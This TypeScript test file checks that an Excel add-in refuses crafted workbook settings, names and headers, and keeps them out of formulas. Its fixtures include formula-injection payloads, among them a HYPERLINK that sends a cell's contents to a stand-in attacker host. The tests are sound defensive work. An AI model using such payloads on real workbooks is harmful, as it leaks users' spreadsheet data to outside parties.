/**
 * Workbooks travel: what the add-in reads back from one (its settings, names, sheet names) is
 * untrusted. A record it cannot trust is refused and reported, nothing is written over it
 * unasked, and no text from it reaches a formula or a defined name outside a quoted string.
 */
import fc from "fast-check";
import { bundledCatalog } from "../../src/domain/dataset";
import { parseFormula, type FormulaNode } from "../../src/domain/formulas/parse";
import { nativeAiShare } from "../../src/domain/formulas/native";
import { createAiShareModel } from "../../src/domain/model/aiShare";
import { RefusedRecordError, SETTING_KEYS } from "../../src/domain/stored";
import { makeSheetPortable } from "../../src/office/portable";
import { readScenarios, saveScenarios } from "../../src/office/scenarios";
import { writeTables } from "../../src/office/tables";
import type { FakeWorkbook } from "../fakes/excel";
import { OPENAI, XAI } from "../support/scenarios";
import { installExcel } from "./support";

const NOW = new Date("2026-12-01T00:00:00Z");
const CRAFTED_ID = 'A1,HYPERLINK("https://attacker.example/?"&Sheet1!A1)';

/** The functions the add-in's own formulas call, and nothing else. */
const OUR_FUNCTIONS = /^(COMPUTE\.[A-Z]+|IF|NA|AND|ABS|SQRT|LN|EXP|MIN|INDEX|MATCH|IFERROR|ROWS|SUMIFS|COUNTIFS|DATE|INT)$/;

function nodes(node: FormulaNode): FormulaNode[] {
  switch (node.kind) {
    case "call":
      return [node, ...node.args.flatMap(nodes)];
    case "unary":
      return [node, ...nodes(node.operand)];
    case "binary":
      return [node, ...nodes(node.left), ...nodes(node.right)];
    case "array":
      return [node, ...node.rows.flat().flatMap(nodes)];
    default:
      return [node];
  }
}

/**
 * Every formula in the workbook parses; calls only the add-in's functions; names only defined
 * names; refers only to sheets that exist. Text injected from outside could do none of that
 * without breaking one of these.
 */
function expectOnlyOwnFormulas(workbook: FakeWorkbook) {
  const definedNames = new Set(workbook.names.map((n) => n.name.toLowerCase()));
  const sheetNames = new Set(workbook.sheets.map((s) => s.name.toLowerCase()));
  const tableNames = new Set(workbook.tables.map((t) => t.name.toLowerCase()));
  for (const name of workbook.names)
    expect(name.name).toMatch(/^(ComputeAlliances\.[A-Za-z0-9_.]+|Scn_[A-Za-z0-9]{1,20}_[A-Za-z]+)$/);
  for (const sheet of workbook.sheets)
    for (const cell of sheet.cells.values()) {
      if (cell.formula === null) continue;
      const parsed = parseFormula(cell.formula);
      if (!parsed.ok) throw new Error(`${cell.formula}: ${parsed.reason}`);
      for (const node of nodes(parsed.node)) {
        if (node.kind === "call") expect(node.name).toMatch(OUR_FUNCTIONS);
        if (node.kind === "name") expect(definedNames.has(node.name.toLowerCase())).toBe(true);
        if (node.kind === "structured") expect(tableNames.has(node.table.toLowerCase())).toBe(true);
        if (node.kind === "reference" && node.sheet !== null) expect(sheetNames.has(node.sheet.toLowerCase())).toBe(true);
      }
    }
}

const snapshot = (workbook: FakeWorkbook) => JSON.stringify({ dump: workbook.dump(), names: workbook.names });

describe("a crafted scenario list", () => {
  it("is refused in part: the crafted entry is ignored and counted, and never reaches a name or formula", async () => {
    const { workbook } = installExcel();
    workbook.settings.set(SETTING_KEYS.scenarios, [{ ...XAI, id: CRAFTED_ID }, OPENAI]);
    const stored = await readScenarios();
    expect(stored).toEqual({ definitions: [OPENAI], refusal: { record: "scenarios", reason: "malformed", ignored: 1 } });

    // Saving would replace the stored list: not without the analyst's word, and nothing is written.
    const before = snapshot(workbook);
    await expect(saveScenarios(stored.definitions, "en")).rejects.toBeInstanceOf(RefusedRecordError);
    expect(snapshot(workbook)).toBe(before);
    expect(workbook.settings.get(SETTING_KEYS.scenarios)).toEqual([{ ...XAI, id: CRAFTED_ID }, OPENAI]);

    await saveScenarios(stored.definitions, "en", { replaceRefused: true });
    expect(workbook.settings.get(SETTING_KEYS.scenarios)).toEqual([OPENAI]);
    expect(JSON.stringify(workbook.dump())).not.toContain("HYPERLINK");
    expectOnlyOwnFormulas(workbook);
  });

  it("of 10,000 entries is refused whole, and costs no more than reading it", async () => {
    const { workbook } = installExcel();
    const huge = Array.from({ length: 10000 }, (_, i) => ({ ...XAI, id: `s${i}`, name: `s${i}` }));
    workbook.settings.set(SETTING_KEYS.scenarios, huge);
    expect((await readScenarios()).refusal).toEqual({ record: "scenarios", reason: "tooLarge", ignored: 1 });
  });

  it("keeps NaN out and lets a huge but finite cash through", async () => {
    const { workbook } = installExcel();
    workbook.settings.set(SETTING_KEYS.scenarios, [
      { ...XAI, id: "nan", inputs: { ...XAI.inputs, cash: NaN } },
      { ...XAI, id: "rich", name: "rich", inputs: { ...XAI.inputs, cash: 1e308 } },
    ]);
    const stored = await readScenarios();
    expect(stored.definitions.map((d) => d.id)).toEqual(["rich"]);
    await saveScenarios(stored.definitions, "en", { replaceRefused: true });
    expect(workbook.sheetByName("Scenario rich")).toBeTruthy();
    expectOnlyOwnFormulas(workbook);
  });

  it("names a scenario with quotes, brackets and ! safely, and shows a name that looks like a formula as text", async () => {
    const { workbook } = installExcel();
    const odd = { ...XAI, id: "Q1", name: `It's "Q1"! [draft]` };
    const formulaLike = { ...OPENAI, id: "Neg", name: "=HYPERLINK(1)" };
    await saveScenarios([odd, formulaLike], "en");
    expect(workbook.sheets.map((s) => s.name)).toEqual([
      `Scenario It's "Q1"!  draft`,
      "Scenario =HYPERLINK(1)",
      "Scenarios",
      "AI share outlook",
    ]);
    const comparison = workbook.sheetByName("Scenarios")!;
    // The header row of the comparison holds the names as text, not as formulas.
    expect(workbook.cell(comparison, 2, 1)).toMatchObject({ value: `It's "Q1"! [draft]`, formula: null });
    expect(workbook.cell(comparison, 2, 2)).toMatchObject({ value: "=HYPERLINK(1)", formula: null });
    expectOnlyOwnFormulas(workbook);
  });
});

describe("a crafted ownership record", () => {
  const analystDeals = (workbook: FakeWorkbook) => {
    const sheet = workbook.addSheet("Deals");
    workbook.setCell(sheet, 0, 0, { value: "my own deals" });
    workbook.setCell(sheet, 2, 0, { value: "id" });
    workbook.setCell(sheet, 3, 0, { value: "my-deal" });
    workbook.tables.push({ id: "{t-1}", name: "Deals", sheetId: sheet.id, top: 2, left: 0, height: 2, width: 1, style: "" });
    return sheet;
  };

  it("naming the analyst's sheet and table: the add-in writes elsewhere and leaves theirs as it was", async () => {
    const { workbook } = installExcel();
    const sheet = analystDeals(workbook);
    const before = JSON.stringify([...sheet.cells]);
    workbook.settings.set(SETTING_KEYS.ownership, {
      version: 1,
      language: "en",
      writtenAt: "2026-01-01T00:00:00.000Z",
      addinVersion: "0.1.0",
      datasetVersion: "1.0.0",
      tables: { deals: "Deals" },
      sheets: { deals: "Deals" },
    });
    const report = await writeTables("en", bundledCatalog, NOW);
    expect(JSON.stringify([...sheet.cells])).toBe(before);
    expect(report.created.find((c) => c.sheet === "deals")?.name).toBe("Deals (2)");
    expect(workbook.tables.find((t) => t.id === "{t-1}")?.name).toBe("Deals");
    expectOnlyOwnFormulas(workbook);
  });

  it("of another tool's shape: refused, nothing written until the analyst agrees, and theirs untouched after", async () => {
    const { workbook } = installExcel();
    const sheet = analystDeals(workbook);
    workbook.settings.set(SETTING_KEYS.ownership, { version: 1, tables: { deals: 'Deals"),HYPERLINK("x' } });
    const before = snapshot(workbook);
    await expect(writeTables("en", bundledCatalog, NOW)).rejects.toMatchObject({
      refusal: { record: "ownership", reason: "malformed" },
    });
    expect(snapshot(workbook)).toBe(before);
    const cells = JSON.stringify([...sheet.cells]);
    await writeTables("en", bundledCatalog, NOW, { replaceRefused: true });
    expect(JSON.stringify([...sheet.cells])).toBe(cells);
    expect(workbook.settings.get(SETTING_KEYS.ownership)).toMatchObject({ version: 1, language: "en" });
    expectOnlyOwnFormulas(workbook);
  });
});

describe("a sheet name with quotes and ! around the AI-share table", () => {
  it("is quoted in the native formulas Make portable writes", async () => {
    const { workbook } = installExcel();
    await writeTables("en", bundledCatalog, NOW);
    workbook.sheetByName("Compute spend")!.name = `Bob's "data"!`;
    const model = workbook.addSheet("Model");
    workbook.setCell(model, 0, 0, { formula: "=COMPUTE.AISHARE(2030)", value: 0.3 });
    await makeSheetPortable("Model", "en");
    const series = { years: `'Bob''s "data"!'!$A$4:$A$7`, shares: `'Bob''s "data"!'!$B$4:$B$7` };
    expect(workbook.cell(model, 0, 0).formula).toBe(
      nativeAiShare("2030", "logistic", createAiShareModel(bundledCatalog.aiShare), series),
    );
    expectOnlyOwnFormulas(workbook);
  });
});

describe("any JSON in the stored settings", () => {
  it("gives a reported refusal or a clean write, and never text of its own in a formula or name", async () => {
    const scenarioLike = fc.record({ id: fc.string(), name: fc.string(), inputs: fc.dictionary(fc.string(), fc.jsonValue()) });
    const stored = fc.oneof(fc.jsonValue(), fc.array(fc.oneof(scenarioLike, fc.jsonValue())), fc.constant(undefined));
    await fc.assert(
      fc.asyncProperty(stored, stored, async (scenarios, ownership) => {
        const { workbook } = installExcel();
        if (scenarios !== undefined) workbook.settings.set(SETTING_KEYS.scenarios, scenarios);
        if (ownership !== undefined) workbook.settings.set(SETTING_KEYS.ownership, ownership);
        for (const write of [
          (consent: { replaceRefused?: boolean }) => writeTables("en", bundledCatalog, NOW, consent),
          async (consent: { replaceRefused?: boolean }) =>
            saveScenarios([...(await readScenarios()).definitions, XAI].slice(-3), "en", consent),
        ]) {
          try {
            await write({});
          } catch (error) {
            // The only failure allowed: a refusal, reported, with nothing written.
            expect(error).toBeInstanceOf(RefusedRecordError);
            await write({ replaceRefused: true });
          }
        }
        expectOnlyOwnFormulas(workbook);
      }),
      { numRuns: 60 },
    );
  });
});

describe("any text in the names and headers the add-in reads back", () => {
  const text = fc.oneof(
    fc.string({ maxLength: 40 }),
    fc.constantFrom('=HYPERLINK("x")', "=Sheet1!$A$1", "=Deals[#All]", "='a''b'!$A$1", "=#REF!", "id", "value_usd"),
  );

  it("leaves a refresh with a reported note or a clean write, never their text in a formula or a name", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(text, { minLength: 3, maxLength: 3 }),
        fc.array(text, { minLength: 3, maxLength: 3 }),
        async (markers, headers) => {
          const { workbook } = installExcel();
          await writeTables("en", bundledCatalog, NOW);
          // A colleague's file: marker names holding any formula, managed headers typed over.
          for (const [i, key] of [
            "ComputeAlliances.deals",
            "ComputeAlliances.table.deals",
            "ComputeAlliances.table.metrics",
          ].entries()) {
            const name = workbook.names.find((n) => n.name === key)!;
            name.refersTo = { formula: markers[i] };
          }
          const deals = workbook.tables.find((t) => t.name === "Deals")!;
          const sheet = workbook.sheets.find((s) => s.id === deals.sheetId)!;
          headers.forEach((header, c) =>
            workbook.setCell(sheet, deals.top, deals.left + 1 + c, { value: header, formula: null }),
          );
          const report = await writeTables("en", bundledCatalog, NOW);
          expect(report.syncs).toBeLessThanOrEqual(3);
          expectOnlyOwnFormulas(workbook);
        },
      ),
      { numRuns: 40 },
    );
  });
});
